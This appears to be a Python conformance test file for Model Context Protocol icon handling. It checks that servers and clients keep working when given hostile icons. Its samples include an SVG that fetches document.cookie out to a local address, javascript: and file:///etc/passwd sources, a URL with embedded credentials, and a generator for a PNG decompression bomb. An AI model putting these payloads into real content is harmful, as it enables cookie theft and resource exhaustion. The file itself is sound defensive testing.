"""Icons: a server as a consumer of the icons of its client's ``clientInfo``; a client as the consumer of a server's.

The icon rows bind whoever consumes icons. A server meets icons only in the ``clientInfo`` of its
client (the ``initialize`` request; at 2026-07-28 the ``_meta`` clientInfo every request carries).
What it does with them inside (store, render, fetch) shows on no wire (docs/limits/063-*.md); what
does show is whether it goes on serving once they have arrived. Each test offers icons built to hurt
a careless consumer, then asks for something every server answers: a server that chokes on them
(no answer, a crash, a stall past the harness's bound) fails; refusing the request that carried them
is a defence, and passes.
"""

from __future__ import annotations

import base64
import struct
import zlib
from functools import cache
from typing import Any

from conformance.harness.frames import BOTH_TRANSPORTS, CLIENT_INFO, initialize_params
from conformance.harness.peer import Peer
from conformance.harness.scripted_server import SERVER_INFO, ScriptedServer, default_results
from conformance.matrix.covers import for_req
from conformance.run.plugin import ClientRun
from conformance.test_tools import RunClient, client_calls, script_tools, text_result

CLIENT_INFO_META = "io.modelcontextprotocol/clientInfo"
SCRIPTED_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1" onload="alert(document.cookie)">'
    b'<script>fetch("http://127.0.0.1:9/?stolen="+document.cookie)</script>'
    b'<foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'
)


def data_uri(mime: str, payload: bytes) -> str:
    return f"data:{mime};base64,{base64.b64encode(payload).decode('ascii')}"


#: Metadata a careless consumer would act on: unsafe schemes, credentials in the URL, a type that
#: lies about the bytes, bytes that are no base64, scripted SVG, nonsense sizes.
HOSTILE_ICONS: list[dict[str, Any]] = [
    {"src": "javascript:alert(document.cookie)", "mimeType": "image/png"},
    {"src": "file:///etc/passwd", "mimeType": "image/png", "sizes": ["48x48"]},
    {"src": "ws://127.0.0.1:9/icon", "mimeType": "image/webp"},
    {"src": "https://user:password@127.0.0.1:9/icon.png", "sizes": ["any"], "theme": "dark"},
    {"src": "http://127.0.0.1:9/icon.png?" + "a" * 4096, "mimeType": "text/html", "theme": "light"},
    {"src": data_uri("image/png", SCRIPTED_SVG), "mimeType": "image/png", "sizes": ["1x1"]},
    {"src": data_uri("image/svg+xml", SCRIPTED_SVG), "mimeType": "image/svg+xml", "sizes": ["any"]},
    {"src": "data:image/png;base64,!!!!not-base64!!!!", "mimeType": "image/png"},
    {"src": "data:", "mimeType": "", "sizes": ["", "-1x-1", "0x0", "NaNxNaN", "48x48x48"]},
]


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


@cache
def png_bomb(side: int = 20_000) -> bytes:
    """A valid grey 1-bit PNG of ``side`` x ``side`` pixels (400 million at the default) whose image data,
    all zeros, compresses to a few tens of kilobytes: a decoder that allocates the pixels pays gigabytes."""
    row = b"\x00" * (1 + (side + 7) // 8)  # filter byte, then the packed row
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row * 1000) for _ in range(side // 1000)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


@cache
def gif_of_many_frames(frames: int = 3_000) -> bytes:
    """A 1x1 animated GIF of ``frames`` frames, each shown for 0 ms, looping forever."""
    head = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    control = b"\x21\xf9\x04\x00\x00\x00\x00\x00"  # no delay
    frame = control + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return head + loop + frame * frames + b"\x3b"


def exhausting_icons() -> list[dict[str, Any]]:
    """Icons crafted to exhaust a consumer: a decompression bomb, thousands of frames, sizes past any screen,
    and a long list of them."""
    bomb = data_uri("image/png", png_bomb())
    return [
        {"src": bomb, "mimeType": "image/png", "sizes": ["20000x20000"]},
        {"src": data_uri("image/gif", gif_of_many_frames()), "mimeType": "image/gif", "sizes": ["1x1"]},
        {"src": data_uri("image/png", png_bomb(1_000)), "sizes": ["4294967295x4294967295"]},
        *({"src": data_uri("image/svg+xml", SCRIPTED_SVG), "sizes": ["any"]} for _ in range(500)),
    ]


def offer_client_icons(peer: Peer, icons: list[dict[str, Any]]) -> dict:
    """The server's answer to the first request whose ``clientInfo`` carries ``icons``: ``initialize`` (the
    session then goes on as usual when it succeeds), or at 2026-07-28 ``server/discover``."""
    client_info = {**CLIENT_INFO, "icons": icons}
    if peer.stateless:
        return peer.rpc("server/discover", {"_meta": {CLIENT_INFO_META: client_info}}, check=False)
    response = peer.request("initialize", {**initialize_params(peer.revision), "clientInfo": client_info}, check=False)
    if "result" in response:
        peer.initialized, peer.client_capabilities = response["result"], {}
        if hasattr(peer, "negotiated_version"):  # Streamable HTTP: the version header of later requests
            peer.negotiated_version = response["result"].get("protocolVersion")
        peer.notify("notifications/initialized")
    return response


def assert_still_serving(peer: Peer, icons: list[dict[str, Any]], what: str) -> None:
    """The request carrying ``icons`` is answered (a result, or an error: refusing is a defence), and the
    server then answers the request every server answers."""
    answer = offer_client_icons(peer, icons)
    assert "result" in answer or "error" in answer, f"the request whose clientInfo carried {what} got {answer}"
    if "error" in answer:
        return  # refused: the icons were not taken in
    probe = peer.rpc(peer.probe_method, check=False)
    assert "result" in probe, f"after a clientInfo carrying {what}, {peer.probe_method} was answered {probe}"


@for_req("icons-untrusted-input", "server", transports=BOTH_TRANSPORTS)
def test_hostile_client_icon_metadata_leaves_the_server_serving(revision: str, transport: str, peer: Peer) -> None:
    assert_still_serving(peer, HOSTILE_ICONS, "icons with unsafe schemes, lying types and scripted SVG")


@for_req("icons-resource-exhaustion", "server", transports=BOTH_TRANSPORTS)
def test_client_icons_built_to_exhaust_leave_the_server_serving(revision: str, transport: str, peer: Peer) -> None:
    assert_still_serving(peer, exhausting_icons(), "a PNG decompression bomb, a 3000-frame GIF and 500 more icons")


# -- the client side: icons a server hands its client ---------------------------------------------------
#
# A client meets icons in what a server lists (here: the one tool of the scripted server's tools/list) and
# in the server's own ``serverInfo`` (the initialize result; at 2026-07-28 the server/discover result's
# ``_meta``). The SDK's client hands them to its application; a host may fetch and draw them. Each test
# lists icons built to hurt a careless consumer, then sees whether the client goes on: it calls the tool
# (the driver's ``call_each_tool``), or refuses the listing and tells its application so (a defence). A
# client that chokes on them (a crash, a stall past the harness's bound) fails.
#
# What a client fetches, and how (https or data only, no other origin, no credentials, no unsafe scheme,
# scripts in SVG never run), would show as requests to a URL of the harness; the rows about it stay gapped
# (coverage/icons.py says why).

ICONIC_TOOL = "iconic"
SERVER_INFO_META = "io.modelcontextprotocol/serverInfo"


def serving_icons(server: ScriptedServer, icons: list[dict[str, Any]]) -> None:
    """The scripted server lists one tool bearing ``icons``, and bears them in its serverInfo."""
    entry = {"name": ICONIC_TOOL, "inputSchema": {"type": "object"}, "icons": icons}
    script_tools(server, [(entry, text_result(f"{ICONIC_TOOL} ran"))])
    defaults = default_results(server.revision)
    info = SERVER_INFO | {"icons": icons}
    initialize = defaults["initialize"]({}) | {"serverInfo": info}
    discover = defaults["server/discover"]({})
    discover["_meta"] = {SERVER_INFO_META: info}
    server.answers |= {"initialize": lambda _: initialize, "server/discover": lambda _: discover}


def assert_goes_on(run: ClientRun, server: ScriptedServer, what: str) -> None:
    """After the listing bearing the icons, the client called the tool; or it told its application what it
    made of the listing without the tool (it refused the listing, or kept the tool back: defences). A
    client that reports a call of the tool the server never received, or reports nothing, stopped."""
    results = run.report("tool-results")
    kept_back = isinstance(results, dict) and ICONIC_TOOL not in results
    called = client_calls(server)
    assert ICONIC_TOOL in called or kept_back, (
        f"after a listing whose icons were {what}, the client called {called} and told its application {results}"
    )


@for_req("icons-untrusted-input", "client")
def test_hostile_icon_metadata_leaves_the_client_working(
    revision: str, run_client: RunClient, scripted_server: ScriptedServer
) -> None:
    serving_icons(scripted_server, HOSTILE_ICONS)
    run = run_client("call_each_tool")
    run.judge(lambda: assert_goes_on(run, scripted_server, "unsafe schemes, lying types and scripted SVG"))


@for_req("icons-resource-exhaustion", "client")
def test_icons_built_to_exhaust_leave_the_client_working(
    revision: str, run_client: RunClient, scripted_server: ScriptedServer
) -> None:
    serving_icons(scripted_server, exhausting_icons())
    run = run_client("call_each_tool")
    run.judge(lambda: assert_goes_on(run, scripted_server, "a PNG decompression bomb, a 3000-frame GIF and 500 more"))


CALLBACK_PATH = "/mcp-matrix/callback/svg-script"


def calling_back_svg(server: ScriptedServer) -> bytes:
    """An SVG icon whose scripts, if they ever run, request CALLBACK_PATH of the scripted server."""
    url = server.url.rsplit("/", 1)[0] + CALLBACK_PATH
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16" onload="fetch(\'{url}?onload\')">'
        f"<script>fetch('{url}?script')</script>"
        '<rect width="16" height="16" fill="teal"/></svg>'
    ).encode()


@for_req("icons-svg-precautions-src", "client")
def test_no_script_in_an_svg_icon_runs(revision: str, run_client: RunClient, scripted_server: ScriptedServer) -> None:
    """The listing and serverInfo bear an SVG icon (a data: URI) whose scripts call back to the scripted
    server: no call back arrives, during the run or by its end. A client that draws no icon passes too:
    the row asks for precautions, and not drawing is one."""
    svg = data_uri("image/svg+xml", calling_back_svg(scripted_server))
    serving_icons(scripted_server, [{"src": svg, "mimeType": "image/svg+xml", "sizes": ["any"]}])
    run = run_client("call_each_tool")

    def check() -> None:
        called_back = [r.path for r in scripted_server.received if r.path.startswith(CALLBACK_PATH)]
        assert not called_back, f"the script of an SVG icon ran: it requested {called_back}"

    run.judge(check)
